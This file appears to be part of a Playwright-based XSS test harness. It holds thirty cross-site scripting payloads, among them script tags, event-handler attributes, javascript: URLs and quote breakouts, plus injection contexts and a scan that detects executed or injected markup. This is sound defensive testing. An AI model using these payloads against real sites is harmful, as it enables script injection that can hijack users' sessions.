"""Thirty texts that run a script or ask a foreign host when a page draws them as they are, and how that is seen.

`{n}` is the number of the field that holds the text, so that what has run says where it came from. They are short:
most fields take them whole.
"""

import re

from playwright.sync_api import Error

PAYLOADS = (
    "<script>hit({n})</script>",
    "<ScRiPt >hit({n})</sCrIpT>",
    "<script/x>hit({n})</script>",
    "<script src=//f.example/{n}></script>",
    "<img src=x onerror=hit({n})>",
    '<img/src="x"/onerror=hit({n})>',
    "<img src=//f.example/{n}>",
    "<svg onload=hit({n})>",
    "<svg/onload=hit({n})//",
    "<svg><script>hit({n})</script>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<svg><a href=javascript:hit({n})><text y=20>x",
    "<body onload=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'>",
    "<iframe src=javascript:parent.hit({n})>",
    "<embed src=//f.example/{n}>",
    "<object data=//f.example/{n}>",
    "<link rel=stylesheet href=//f.example/{n}>",
    "<style>@import '//f.example/{n}'</style>",
    "<style onload=hit({n})></style>",
    "<meta http-equiv=refresh content=0;url=//f.example/{n}>",
    "<details open ontoggle=hit({n})>x",
    "<input autofocus onfocus=hit({n})>",
    "<video><source onerror=hit({n})>",
    "<p style=background:url(//f.example/{n})>x</p>",
    '"><script>hit({n})</script>',
    "' autofocus onfocus='hit({n})",
    "</textarea></title><script>hit({n})</script>",
    "';hit({n});'",
    "javascript:hit({n})",
)
#: Where a page without escaping would let a text stand.
PLACES = (
    "<main>{}</main>",
    '<input value="{}">',
    "<input value='{}'>",
    "<textarea>{}</textarea>",
    "<a href='{}'>x</a>",
    "<script>var a = '{}';</script>",
)
NUMBER = re.compile(r"hit\((\d+)\)|f\.example/(\d+)")
HITTING = "window.hits = []; window.hit = number => void hits.push(number);"
SCAN = """() => {
    const found = window.hits.map(number => "ran: hit(" + number + ")")
    for (const one of document.querySelectorAll("*")) {
        const kind = one.tagName.toLowerCase()
        if (["script", "style"].includes(kind) && /hit\\(|f\\.example/.test(one.textContent) && !/json/.test(one.type))
            found.push("became a part: " + one.outerHTML.slice(0, 120))
        for (const {name, value} of one.attributes) {
            const loads = /^(on.*|src|srcset|srcdoc|data|style|background|poster)$/.test(name)
            const target = value.trimStart().toLowerCase()
            const leads = /^(href|action|formaction|xlink:href)$/.test(name)
                && ["javascript:", "data:", "//"].some(start => target.startsWith(start))
            if ((loads || leads) && /hit\\(|f\\.example/.test(value))
                found.push("became a part: " + kind + " " + name + "=" + value.slice(0, 80))
        }
    }
    return found
}"""


def numbers(text):
    """Return the numbers of the fields whose payloads stand in `text`, as they are or escaped."""
    return {int(one or other) for one, other in NUMBER.findall(text)}


def ran(visitor):
    """Return what of the payloads has run, asked or become a part of the open page."""
    asked = [fault for fault in visitor.faults if ": asks " in fault]
    try:
        return [*visitor.page.evaluate(SCAN), *asked]
    except Error:
        return ["led elsewhere", *asked]
